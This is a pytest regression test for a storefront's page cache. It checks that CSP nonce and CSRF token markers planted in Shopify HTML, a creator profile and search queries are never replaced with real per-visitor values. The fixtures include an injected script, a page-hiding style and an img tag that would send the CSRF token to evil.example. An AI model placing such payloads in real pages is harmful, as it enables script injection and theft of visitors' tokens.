"""Per-visitor values go into cached pages by position: no content can become one.

The page cache once filled in per-visitor values by replacing fixed markers
across the whole body, so a product description, a creator's link or a search
holding a marker got the real thing: a `<script nonce="__sf-csp-nonce__">` in
Shopify's HTML ran despite the CSP, and an avatar URL ending in
`?t=__sf-csrf-token__` sent every visitor's CSRF token to another site. Here
the old markers, and scripts carrying them, are in every place content reaches
a page; each page must show them as they are, with this response's nonce and
this visitor's token only in the store's own tags, whether the app or the
fast path answers.

`poisoned_app` is also what the browser test (tests/browser/test_injected_script.py)
serves under gunicorn.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import quote

import pytest
from markupsafe import escape

from storefront import create_app
from storefront.creators import fields
from storefront.demo_shop.catalog import DEFAULT_CATALOG
from storefront.demo_shop.shop import DemoShop
from tests.support.renders import count_page_renders
from tests.web.test_fastpath import handed_to_app

MARKERS = "__sf-csrf-token__ __sf-cart-count__ __sf-csp-nonce__"
SCRIPT = ('<script nonce="__sf-csp-nonce__">window.__pwned = 1; '
          'document.title = "pwned"</script>')
STYLE = '<style nonce="__sf-csp-nonce__">body { display: none }</style>'
TOKEN_SENDER = '<img src="https://evil.example/px.png?t=__sf-csrf-token__" alt="">'
# Shopify's HTML is shown as it is (the merchant writes it): only the CSP stands
# between its scripts and the shopper.
SHOPIFY_HTML = f"<p>{MARKERS}</p>{SCRIPT}{STYLE}{TOKEN_SENDER}"
CREATOR_TEXT = f"{MARKERS} {SCRIPT}"  # text: escaped, but its markers once were filled in
AVATAR = "https://evil.example/px.png?t=__sf-csrf-token__"
SEARCH = f"{MARKERS} {SCRIPT}"

CREATOR = f"""
name = "Mallory"
avatar = {json.dumps(AVATAR)}
bio = {json.dumps(CREATOR_TEXT)}
[hero]
title = {json.dumps(CREATOR_TEXT)}
subtitle = {json.dumps(CREATOR_TEXT)}
image = "https://evil.example/hero.png?n=__sf-csp-nonce__"
cta_url = "/search?q=__sf-csrf-token__"
[notes]
organic-cotton-tee = {json.dumps(CREATOR_TEXT)}
[article_notes.journal]
how-to-care-for-linen = {json.dumps(CREATOR_TEXT)}
"""
CLEAN_CREATOR = """
name = "Mallory"
avatar = "https://cdn.example.com/mallory.png"
bio = "Hello"
[hero]
title = "Hello"
subtitle = "Hello"
image = "https://cdn.example.com/hero.png"
cta_url = "/search?q=linen"
[notes]
organic-cotton-tee = "Hello"
[article_notes.journal]
how-to-care-for-linen = "Hello"
"""

# (url, what of the payload it shows: raw Shopify HTML or escaped text)
PAGES = [
    ("/products/organic-cotton-tee", SHOPIFY_HTML),  # and the creator's note and avatar
    ("/pages/about", SHOPIFY_HTML),
    ("/blogs/journal/how-to-care-for-linen", SHOPIFY_HTML),  # and the creator's note on it
    ("/collections/apparel", SHOPIFY_HTML),
    ("/", str(escape(CREATOR_TEXT))),  # the creator's hero
    ("/search?q=" + quote(SEARCH), str(escape(SEARCH))),
]
CSP_NONCE = re.compile(r"'nonce-([^']+)'")
CSRF = re.compile(r'<meta name="csrf-token" content="([^"]*)"')


def write_catalog(folder: Path) -> Path:
    """The demo catalog with Shopify HTML that carries the old markers; its catalog.json."""
    folder.mkdir(parents=True, exist_ok=True)
    raw = json.loads(DEFAULT_CATALOG.read_text(encoding="utf-8"))
    for kind, handle, key in [("products", "organic-cotton-tee", "descriptionHtml"),
                              ("pages", "about", "bodyHtml"),
                              ("collections", "apparel", "descriptionHtml")]:
        (entry,) = [entry for entry in raw[kind] if entry["handle"] == handle]
        entry[key] = (entry.get(key) or "") + SHOPIFY_HTML
    (article,) = [a for a in raw["blogs"][0]["articles"] if a["handle"] == "how-to-care-for-linen"]
    article["contentHtml"] += SHOPIFY_HTML
    path = folder / "catalog.json"
    path.write_text(json.dumps(raw), encoding="utf-8")
    (folder / "metaobjects.json").write_bytes(
        (DEFAULT_CATALOG.parent / "metaobjects.json").read_bytes())
    (folder / "images").symlink_to(DEFAULT_CATALOG.parent / "images")
    return path


def write_creator(folder: Path, text: str) -> Path:
    (folder / "media").mkdir(parents=True, exist_ok=True)
    (folder / "mallory.toml").write_text(text, encoding="utf-8")
    return folder


def poisoned_app(catalog: str | None = None, **config):
    """The store with the demo shop on `catalog` (a catalog.json); settings from the
    environment and `config`. Used as a gunicorn app factory by the browser test."""
    app = create_app(config or None)
    if catalog is not None:
        # The embedded shop on another catalog: the same shop, carts and all,
        # as a merchant's edits in Shopify would leave it.
        transport = app.extensions["storefront"].transport
        transport.shop = DemoShop(Path(catalog), carts=transport.shop.carts)
    return app


@pytest.fixture
def renders(monkeypatch) -> list[str]:
    return count_page_renders(monkeypatch)


def visitor(app):
    """A shopper credited to Mallory, with 7 items in their cart (and so a session,
    whose CSRF token the pages carry: a first visit has none)."""
    client = app.test_client()
    assert client.get("/@mallory").status_code == 200
    added = client.post("/cart/add", data={"variant_id": "1003"},
                        headers={"Sec-Fetch-Site": "same-origin"})
    assert added.status_code == 303
    assert client.get("/cart").status_code == 200  # (shows the "added" message, once)
    client.set_cookie("cart_count", "7")
    return client


def own_values(body: str, reply) -> dict[str, int]:
    """How often this response's nonce and CSRF token appear, and in how many own tags."""
    nonce = CSP_NONCE.search(reply.headers["Content-Security-Policy"]).group(1)
    found = {"nonce": body.count(nonce), "nonce in own tags": len(re.findall(
        rf'<(?:style|script type="application/ld\+json") nonce="{re.escape(nonce)}">', body))}
    token = CSRF.search(body)
    if token is None:
        found["token"] = found["token in own fields"] = 0
    else:
        token = re.escape(token.group(1))
        found["token"] = len(re.findall(token, body))
        found["token in own fields"] = len(re.findall(
            rf'(?:<meta name="csrf-token" content="|name="csrf_token" value="){token}"', body))
    return found


@pytest.fixture
def clean(tmp_path):
    """What each page carries of its own on an unpoisoned store: nonces and tokens."""
    app = poisoned_app(None, DEMO_SHOP_CART_DB=str(tmp_path / "clean.sqlite3"),
                       CREATORS_DIR=str(write_creator(tmp_path / "clean", CLEAN_CREATOR)),
                       # its own shared cache: the poisoned store's pages are not its
                       CACHE_DIR=str(tmp_path / "clean-cache"), PAGE_FAST_PATH="false")
    client = visitor(app)
    counts = {}
    for url, _ in PAGES:
        reply = client.get(url.replace(quote(SEARCH), "linen"))  # a search for something else
        counts[url] = own_values(reply.get_data(as_text=True), reply)
        assert counts[url]["nonce"] == counts[url]["nonce in own tags"] >= 1, url
        assert counts[url]["token"] == counts[url]["token in own fields"], url
    assert counts["/products/organic-cotton-tee"]["token"] == 2  # the form and the meta tag
    return counts


@pytest.mark.parametrize("fast_path", ["true", "false"])
def test_content_carrying_markers_gets_no_visitor_value(tmp_path, monkeypatch, clean, renders,
                                                        fast_path):
    # As if the creator file had got past `flask creators check` (which refuses
    # these links, see the next test): the pages must hold on their own.
    monkeypatch.setattr(fields, "RESERVED", re.compile(r"(?!)"))
    app = poisoned_app(str(write_catalog(tmp_path / "catalog")),
                       DEMO_SHOP_CART_DB=str(tmp_path / "c.sqlite3"),
                       CREATORS_DIR=str(write_creator(tmp_path / "creators", CREATOR)),
                       PAGE_FAST_PATH=fast_path)
    assert app.extensions["creators"].get("mallory") is not None
    first_visitor, second_visitor = visitor(app), visitor(app)
    served = handed_to_app(app) if fast_path == "true" else []
    for url, shown in PAGES:
        renders.clear()
        served.clear()
        for client in (first_visitor, second_visitor):  # rendered, then from the page cache
            reply = client.get(url)
            body = reply.get_data(as_text=True)
            assert reply.status_code == 200, url
            assert shown in body, url  # the payload as written, or escaped
            assert body.count("__sf-csp-nonce__") >= 1 and "__sf-csrf-token__" in body, url
            assert 'aria-label="7 items in your cart">7<' in body, url
            assert own_values(body, reply) == clean[url], url
        if url.startswith(("/products/", "/blogs/")):
            assert f'src="{AVATAR}"' in body and str(escape(CREATOR_TEXT)) in body
        assert len(renders) == 1, (url, renders)  # the second view was a page-cache hit
        if fast_path == "true":
            assert served.count(url.split("?")[0]) == 1, url  # ... answered by the fast path


def test_a_poisoned_page_is_a_page_like_any_other_for_etags(tmp_path):
    app = poisoned_app(str(write_catalog(tmp_path / "catalog")),
                       DEMO_SHOP_CART_DB=str(tmp_path / "c.sqlite3"))
    client = app.test_client()
    url = "/products/organic-cotton-tee"
    etag = client.get(url).headers["ETag"]
    assert client.get(url).headers["ETag"] == etag  # new nonce and token, same page
    assert client.get(url, headers={"If-None-Match": etag}).status_code == 304


def test_the_creator_file_with_the_old_markers_is_refused(tmp_path):
    app = poisoned_app(None, DEMO_SHOP_CART_DB=str(tmp_path / "c.sqlite3"),
                       CREATORS_DIR=str(write_creator(tmp_path / "creators", CREATOR)))
    registry = app.extensions["creators"]
    assert registry.get("mallory") is None
    problems = "\n".join(registry.problems)
    for key in ("avatar", "hero.image", "hero.cta_url"):
        assert f"mallory.toml: {key}: " in problems, problems
    assert "text of the form __sf-...__ is reserved" in problems
